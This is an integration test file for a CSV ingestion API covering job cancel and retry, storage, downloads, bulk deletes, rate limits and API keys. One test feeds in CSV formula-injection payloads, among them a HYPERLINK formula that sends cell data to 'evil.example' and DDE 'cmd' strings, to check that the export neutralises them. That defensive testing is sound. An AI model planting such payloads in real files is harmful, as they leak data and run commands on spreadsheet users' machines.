import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { DescribeExecutionCommand, SFNClient } from '@aws-sdk/client-sfn';
import { DynamoDBClient, GetItemCommand } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient, PutCommand } from '@aws-sdk/lib-dynamodb';
import { tableName } from '../../functions/shared/config.ts';
import { jobStore, StaleJobError } from '../../functions/adapters/job-store.ts';
import type { JobRecord } from '../../functions/core/jobs/job.ts';
import { downloadRecords, startTestStack, waitForJob, type TestStack } from '../helpers/stack.ts';
import { uploadFile } from '../../local/cli/upload.ts';
import type { ApiClient } from '../../local/cli/api-client.ts';
import type { ApiJob } from '../../functions/core/jobs/job.ts';
import { executionArnFor } from '../../functions/adapters/pipeline-starter.ts';

let stack: TestStack;
let bigCsv: string;
const fixture = (name: string) => join(import.meta.dirname, '../fixtures/call-logs', name);

beforeAll(async () => {
  stack = await startTestStack();
  // Big enough that Parse runs for a while on 2 cores, so a cancel lands mid-stage.
  const row = '2025-09-14T16:16:00Z,Outgoing,+15123359335,12:34,Voice\n';
  bigCsv = await stack.writeScratch('big.csv', 'Start Time,Direction,Phone Number,Duration,Type\n' + row.repeat(400_000));
});
afterAll(async () => {
  await stack?.stop();
});

async function waitForStage(api: ApiClient, jobId: string, stage: string) {
  const deadline = Date.now() + 20_000;
  for (;;) {
    const job = await api.get<ApiJob>(`/v1/jobs/${jobId}`);
    if (job.stage === stage && job.status === 'running') return job;
    if (Date.now() > deadline || ['succeeded', 'failed'].includes(job.status)) throw new Error(`job never ran ${stage}: ${job.status}/${job.stage}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

describe('cancel', () => {
  it('stops the execution during Parse and leaves the job cancelled (idempotently)', async () => {
    const { api } = await stack.tenant();
    const { jobId } = await uploadFile(api, bigCsv, { schema: 'call_record' });
    await waitForStage(api, jobId, 'parse');
    const cancelled = await api.post<ApiJob>(`/v1/jobs/${jobId}/cancel`);
    expect(cancelled.status).toBe('cancelled');
    const sfn = new SFNClient({});
    let status: string | undefined;
    for (let i = 0; i < 100 && status !== 'ABORTED'; i++) {
      status = (await sfn.send(new DescribeExecutionCommand({ executionArn: executionArnFor(`${jobId}-1`) }))).status;
      await new Promise((r) => setTimeout(r, 50));
    }
    sfn.destroy();
    expect(status).toBe('ABORTED');
    // nothing the aborted stages did afterwards revived the job
    await new Promise((r) => setTimeout(r, 300));
    const after = await api.get<ApiJob>(`/v1/jobs/${jobId}`);
    expect(after.status).toBe('cancelled');
    expect((await api.post<ApiJob>(`/v1/jobs/${jobId}/cancel`)).status).toBe('cancelled');
  });

  it('sends job.cancelled on a repeated cancel when the first could not queue it', async () => {
    const { api } = await stack.tenant();
    const receiver = createServer((_req, res) => res.writeHead(204).end());
    await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
    const queueUrl = process.env.EVENTS_QUEUE_URL;
    try {
      const hook = await api.post<{ webhookId: string }>('/v1/webhooks', { url: `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`, events: ['job.cancelled'] });
      const { jobId } = await uploadFile(api, bigCsv, { schema: 'call_record' });
      await waitForStage(api, jobId, 'parse');
      process.env.EVENTS_QUEUE_URL = `${queueUrl}-gone`; // the queue cannot take the event
      await expect(api.post(`/v1/jobs/${jobId}/cancel`)).rejects.toMatchObject({ status: 500 });
      process.env.EVENTS_QUEUE_URL = queueUrl;
      expect((await api.get<ApiJob>(`/v1/jobs/${jobId}`)).status).toBe('cancelled');

      expect((await api.post<ApiJob>(`/v1/jobs/${jobId}/cancel`)).status).toBe('cancelled');
      await api.post<ApiJob>(`/v1/jobs/${jobId}/cancel`); // a third time: still one delivery
      const eventId = `evt_${jobId}_1_cancelled`;
      let sent: { eventId: string }[] = [];
      for (let i = 0; i < 100 && sent.length === 0; i++) {
        sent = (await api.get<{ items: { eventId: string }[] }>(`/v1/webhooks/${hook.webhookId}/deliveries`)).items.filter((d) => d.eventId === eventId);
        if (sent.length === 0) await new Promise((r) => setTimeout(r, 100));
      }
      await new Promise((r) => setTimeout(r, 500));
      sent = (await api.get<{ items: { eventId: string }[] }>(`/v1/webhooks/${hook.webhookId}/deliveries`)).items.filter((d) => d.eventId === eventId);
      expect(sent).toHaveLength(1);
    } finally {
      process.env.EVENTS_QUEUE_URL = queueUrl;
      await new Promise((resolve) => receiver.close(resolve));
    }
  });

  it('refuses to cancel a finished job with 409', async () => {
    const { api } = await stack.tenant();
    const { jobId } = await uploadFile(api, fixture('generic-export.csv'), { schema: 'call_record' });
    await waitForJob(api, jobId);
    await expect(api.post(`/v1/jobs/${jobId}/cancel`)).rejects.toMatchObject({ status: 409, code: 'conflict' });
  });
});

describe('retry', () => {
  it('resumes a job that failed in Enrich without running Classify or Parse again', async () => {
    const { api, tenantId } = await stack.tenant();
    process.env.FAULT_INJECTION = JSON.stringify({ tenantId, stage: 'enrich', times: 1 });
    try {
      const { jobId } = await uploadFile(api, fixture('att-voice.csv'), { schema: 'call_record' });
      const failed = await waitForJob(api, jobId);
      expect(failed).toMatchObject({ status: 'failed', error: { type: 'InternalError', stage: 'enrich' } });
      const parseTiming = failed.stages.parse;
      const retried = await api.post<ApiJob>(`/v1/jobs/${jobId}/retry`);
      expect(retried.attempt).toBe(2);
      const done = await waitForJob(api, jobId);
      expect(done).toMatchObject({ status: 'succeeded', attempt: 2, executionName: `${jobId}-2`, error: null });
      expect(done.progress).toMatchObject({ rowsRead: 60, rowsWritten: 60, rowsRejected: 0 });
      // Classify and Parse were reused: their timings are the first attempt's
      expect(done.stages.parse).toEqual(parseTiming);
      const sfn = new SFNClient({});
      const second = await sfn.send(new DescribeExecutionCommand({ executionArn: executionArnFor(`${jobId}-2`) }));
      sfn.destroy();
      expect(JSON.parse(second.input!)).toMatchObject({ resumeFrom: 'enrich', attempt: 2 });
      const { items } = await api.get<{ items: unknown[] }>(`/v1/jobs/${jobId}/records?limit=100`);
      expect(items).toHaveLength(60);
    } finally {
      delete process.env.FAULT_INJECTION;
    }
  });

  it('refuses to retry a succeeded job', async () => {
    const { api } = await stack.tenant();
    const { jobId } = await uploadFile(api, fixture('generic-export.csv'), { schema: 'call_record' });
    await waitForJob(api, jobId);
    await expect(api.post(`/v1/jobs/${jobId}/retry`)).rejects.toMatchObject({ status: 409 });
  });
});

describe('storage', () => {
  it('keeps what Classify, Parse and Map found as JSON text, and still reads jobs stored as maps', async () => {
    const { api, tenantId } = await stack.tenant();
    const { jobId } = await uploadFile(api, fixture('att-voice.csv'), { schema: 'call_record' });
    const job = await waitForJob(api, jobId);
    expect(job.status).toBe('succeeded');
    const ddb = new DynamoDBClient({});
    try {
      const { Item } = await ddb.send(new GetItemCommand({ TableName: tableName.jobs(), Key: { tenantId: { S: tenantId }, jobId: { S: jobId } } }));
      for (const field of ['classification', 'parsed', 'mapping']) expect(typeof Item?.[field]?.S, field).toBe('string');
      expect(job.classification).toEqual(JSON.parse(Item!.classification!.S!));
      const storedMapping = JSON.parse(Item!.mapping!.S!) as { status: string; fields: unknown[] };
      expect(job.mapping).toMatchObject({ status: storedMapping.status, fields: storedMapping.fields });

      // the same job as an older version stored it: nested maps
      const decoded = Object.fromEntries(Object.entries(Item!).map(([k, v]) => [k, v.S !== undefined && ['classification', 'parsed', 'mapping'].includes(k) ? JSON.parse(v.S) : v]));
      const doc = DynamoDBDocumentClient.from(ddb);
      const { unmarshall } = await import('@aws-sdk/util-dynamodb');
      const plain = { ...unmarshall(Item!), classification: decoded.classification, parsed: decoded.parsed, mapping: decoded.mapping };
      await doc.send(new PutCommand({ TableName: tableName.jobs(), Item: plain }));
      const again = await api.get<ApiJob>(`/v1/jobs/${jobId}`);
      expect(again).toEqual(job);
      const { items: listed } = await api.get<{ items: ApiJob[] }>('/v1/jobs?limit=5');
      expect(listed.find((j) => j.jobId === jobId)?.classification).toEqual(job.classification);
      const { items } = await api.get<{ items: unknown[] }>(`/v1/jobs/${jobId}/records?limit=100`);
      expect(items).toHaveLength(60);
    } finally {
      ddb.destroy();
    }
  });
});

describe('enrich progress', () => {
  it('counts each chunk once per attempt, so a retried chunk does not add its rows again', async () => {
    const { tenantId } = await stack.tenant();
    const at = new Date().toISOString();
    const job: JobRecord = {
      tenantId,
      jobId: `job_progress_${Date.now()}`,
      status: 'running',
      stage: 'enrich',
      attempt: 1,
      schema: 'call_record',
      options: {},
      source: { bucket: 'b', key: 'k', filename: 'f.csv', size: 10 },
      progress: { rowsRead: 0, rowsWritten: 0, rowsRejected: 0, rowsSkipped: 0, bytesRead: 0 },
      stages: {},
      createdAt: at,
      updatedAt: at,
    };
    await jobStore.create(job);
    const add = (index: number, attempt = 1) =>
      jobStore.addEnrichProgress(tenantId, job.jobId, attempt, { index, written: 10, rejected: 1, range: { rowsRead: 11, bytes: 100 } });
    expect((await add(0)).progress).toMatchObject({ rowsRead: 11, rowsWritten: 10, rowsRejected: 1, bytesEnriched: 100 });
    // chunk 0 again (its retry): the job as it stands, nothing added
    expect((await add(0)).progress).toMatchObject({ rowsRead: 11, rowsWritten: 10, rowsRejected: 1, bytesEnriched: 100 });
    expect((await add(1)).progress).toMatchObject({ rowsRead: 22, rowsWritten: 20, rowsRejected: 2, bytesEnriched: 200 });
    await expect(add(2, 2)).rejects.toBeInstanceOf(StaleJobError);
    // a new attempt counts its chunks afresh
    const next = await jobStore.beginAttempt({ ...(await jobStore.get(tenantId, job.jobId))!, status: 'failed' }, ['running'], undefined);
    expect(next?.enrichedChunks).toBeUndefined();
    expect(next?.progress).toMatchObject({ rowsWritten: 0 });
  });
});

describe('results, delete, bulk and stats', () => {
  it('serves presigned NDJSON and CSV downloads of the records', async () => {
    const { api } = await stack.tenant();
    const { jobId } = await uploadFile(api, fixture('generic-export.csv'), { schema: 'call_record' });
    await waitForJob(api, jobId);
    expect(await downloadRecords(api, jobId)).toHaveLength(50);
    const csv = await api.get<{ url: string }>(`/v1/jobs/${jobId}/output?format=csv`);
    const lines = (await (await fetch(csv.url)).text()).trim().split('\n');
    expect(lines).toHaveLength(51);
    expect(lines[0]).toContain('counterpart_number');
    expect(lines[0]).toContain('started_at');
    await expect(api.get(`/v1/jobs/${jobId}/output?format=xml`)).rejects.toMatchObject({ status: 400 });
  });

  it('writes a CSV download no spreadsheet evaluates: formula cells get a leading apostrophe, numbers and phones stay', async () => {
    const { api } = await stack.tenant();
    const payloads = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '-12.5',
    ];
    const csvFile = [
      'Full Name,Email,Phone,Title,Company',
      ...payloads.map((p, i) => Papa.unparse([[`Person ${i}`, `p${i}@example.com`, '+1 312 555 0100', p, 'Acme']], { header: false, quotes: true })),
    ].join('\n');
    const path = await stack.writeScratch('formulas.csv', `${csvFile}\n`);
    const { jobId } = await uploadFile(api, path, { schema: 'contact' });
    expect((await waitForJob(api, jobId)).status).toBe('succeeded');
    const { url } = await api.get<{ url: string }>(`/v1/jobs/${jobId}/output?format=csv`);
    const rows = Papa.parse<Record<string, string>>((await (await fetch(url)).text()).trimEnd(), { header: true }).data;
    expect(rows).toHaveLength(payloads.length);
    const titleOf = (i: number) => rows.find((r) => r.email === `p${i}@example.com`)?.title;
    // whatever Enrich made of the tab, no title reaches the spreadsheet as a formula
    for (const [i, payload] of payloads.entries()) {
      const title = titleOf(i)!;
      if (payload === '-12.5') expect(title).toBe('-12.5');
      else {
        expect(title.startsWith("'"), JSON.stringify(title)).toBe(true);
        expect(title.slice(1).trim()).toBe(payload.trim());
      }
    }
    expect(new Set(rows.map((r) => r.phone))).toEqual(new Set(['+13125550100']));
    // the NDJSON download keeps the values as they are
    const records = (await downloadRecords(api, jobId)).map((l) => JSON.parse(l) as { title: string });
    expect(records.map((r) => r.title.trim()).sort()).toEqual(payloads.map((p) => p.trim()).sort());
  });

  it('deletes a finished job and its outputs, answers 404 after', async () => {
    const { api } = await stack.tenant();
    const { jobId } = await uploadFile(api, fixture('generic-export.csv'), { schema: 'call_record' });
    await waitForJob(api, jobId);
    const { url } = await api.get<{ url: string }>(`/v1/jobs/${jobId}/output?format=ndjson`);
    await api.delete(`/v1/jobs/${jobId}`);
    await expect(api.get(`/v1/jobs/${jobId}`)).rejects.toMatchObject({ status: 404 });
    expect((await fetch(url)).status).toBe(404);
  });

  it('runs bulk actions with a result per id', async () => {
    const { api } = await stack.tenant();
    const other = await stack.tenant();
    const a = (await uploadFile(api, fixture('generic-export.csv'), { schema: 'call_record' })).jobId;
    const b = (await uploadFile(api, fixture('generic-export.csv'), { schema: 'call_record' })).jobId;
    const foreign = (await uploadFile(other.api, fixture('generic-export.csv'), { schema: 'call_record' })).jobId;
    await Promise.all([waitForJob(api, a), waitForJob(api, b), waitForJob(other.api, foreign)]);
    const res = await api.post<{ results: { jobId: string; ok: boolean; status?: string; error?: { code: string } }[] }>('/v1/jobs/bulk', {
      action: 'delete',
      jobIds: [a, 'job_missing', foreign, b],
    });
    expect(res.results).toEqual([
      { jobId: a, ok: true, status: 'deleted' },
      { jobId: 'job_missing', ok: false, error: expect.objectContaining({ code: 'not_found' }) },
      { jobId: foreign, ok: false, error: expect.objectContaining({ code: 'not_found' }) },
      { jobId: b, ok: true, status: 'deleted' },
    ]);
    expect((await other.api.get<ApiJob>(`/v1/jobs/${foreign}`)).status).toBe('succeeded');
    await expect(api.post('/v1/jobs/bulk', { action: 'explode', jobIds: [a] })).rejects.toMatchObject({ status: 400 });
    await expect(api.post('/v1/jobs/bulk', { action: 'cancel', jobIds: Array.from({ length: 101 }, (_, i) => `j${i}`) })).rejects.toMatchObject({
      status: 400,
    });
  });

  it('reports stats: counts by status, success rate and stage durations', async () => {
    const { api } = await stack.tenant();
    const ok = (await uploadFile(api, fixture('generic-export.csv'), { schema: 'call_record' })).jobId;
    const again = (await uploadFile(api, fixture('att-voice.csv'), { schema: 'call_record' })).jobId;
    await Promise.all([waitForJob(api, ok), waitForJob(api, again)]);
    const stats = await api.get<{ jobs: number; byStatus: Record<string, number>; successRate: number; stages: Record<string, { count: number; medianMs: number | null }> }>(
      '/v1/jobs/stats',
    );
    expect(stats.jobs).toBe(2);
    expect(stats.byStatus.succeeded).toBe(2);
    expect(stats.successRate).toBe(1);
    expect(stats.stages.parse!.count).toBe(2);
    expect(stats.stages.parse!.medianMs).not.toBeNull();
  });
});

describe('api keys and metrics (admin)', () => {
  it('issues, lists and revokes keys; a revoked key stops working', async () => {
    const { api } = await stack.tenant('admin');
    const created = await api.post<{ apiKey: string; keyId: string }>('/v1/api-keys', { name: 'ci', role: 'viewer' });
    expect(created.apiKey).toMatch(/^afp_/);
    const res = await fetch(`${stack.httpUrl}/v1/jobs`, { headers: { authorization: `Bearer ${created.apiKey}` } });
    expect(res.status).toBe(200);
    const { items } = await api.get<{ items: { keyId: string; role: string }[] }>('/v1/api-keys');
    expect(items.find((k) => k.keyId === created.keyId)).toMatchObject({ role: 'viewer' });
    expect(JSON.stringify(items)).not.toContain('keyHash');
    await api.delete(`/v1/api-keys/${created.keyId}`);
    const after = await fetch(`${stack.httpUrl}/v1/jobs`, { headers: { authorization: `Bearer ${created.apiKey}` } });
    expect(after.status).toBe(401);
  });

  it('answers 429 with Retry-After past the key\'s rate limit, and only to that key', async () => {
    const { apiKey, tenantId } = await stack.tenant('viewer', undefined, 3);
    // another key of the same tenant, with the same limit: its budget is its own
    const sibling = await stack.tenant('viewer', tenantId, 3);
    const statuses: number[] = [];
    let retryAfter: string | null = null;
    // All at once: they span at most two one-second windows, so at most 2 x 3 pass. The
    // sibling's 3 go in the same burst and all pass: a budget shared by the tenant's keys
    // would let through at most 6 of the 15, the sibling's 3 among them only by chance.
    const get = (key: string) => fetch(`${stack.httpUrl}/v1/jobs`, { headers: { authorization: `Bearer ${key}` } });
    const burst = await Promise.all([...Array.from({ length: 12 }, () => get(apiKey)), ...Array.from({ length: 3 }, () => get(sibling.apiKey))]);
    const responses = burst.slice(0, 12);
    expect(burst.slice(12).map((r) => r.status)).toEqual([200, 200, 200]);
    for (const res of responses) {
      statuses.push(res.status);
      if (res.status === 429) {
        retryAfter = res.headers.get('retry-after');
        expect(await res.json()).toMatchObject({ error: { code: 'rate_limited' } });
      }
    }
    expect(statuses.filter((s) => s === 200).length).toBeLessThanOrEqual(6);
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThanOrEqual(6);
    expect(Number(retryAfter)).toBeGreaterThanOrEqual(1);
  });

  it('refuses a JSON body over 4 MiB with 413 payload_too_large, and one over 10 MiB at the gateway', async () => {
    const { apiKey } = await stack.tenant('member');
    const post = (path: string, body: string) =>
      fetch(`${stack.httpUrl}${path}`, { method: 'POST', headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' }, body });
    const padded = (bytes: number) => JSON.stringify({ name: 'x', pad: 'a'.repeat(bytes - 21) });
    const limit = 4 * 1024 * 1024;
    expect(padded(limit + 1)).toHaveLength(limit + 1);

    const under = await post('/v1/templates', padded(limit));
    expect(under.status).toBe(400); // read and validated: an unknown field, no schema
    const over = await post('/v1/templates', padded(limit + 1));
    expect(over.status).toBe(413);
    expect(await over.json()).toMatchObject({ error: { code: 'payload_too_large', details: [{ field: '(body)' }] } });

    const huge = await post('/v1/uploads', padded(10 * 1024 * 1024 + 1));
    expect(huge.status).toBe(413);
    expect(await huge.json()).toEqual({ message: 'Request Entity Too Large' });
  });

  it('serves metrics to admins only', async () => {
    const admin = await stack.tenant('admin');
    const metrics = await admin.api.get<{ queues: Record<string, { visible: number } | null> }>('/v1/metrics');
    expect(metrics.queues.events).toMatchObject({ visible: expect.any(Number) });
    expect(metrics.queues.eventsDeadLetter).toMatchObject({ visible: expect.any(Number) });
    const member = await stack.tenant('member');
    await expect(member.api.get('/v1/metrics')).rejects.toMatchObject({ status: 403 });
  });
});
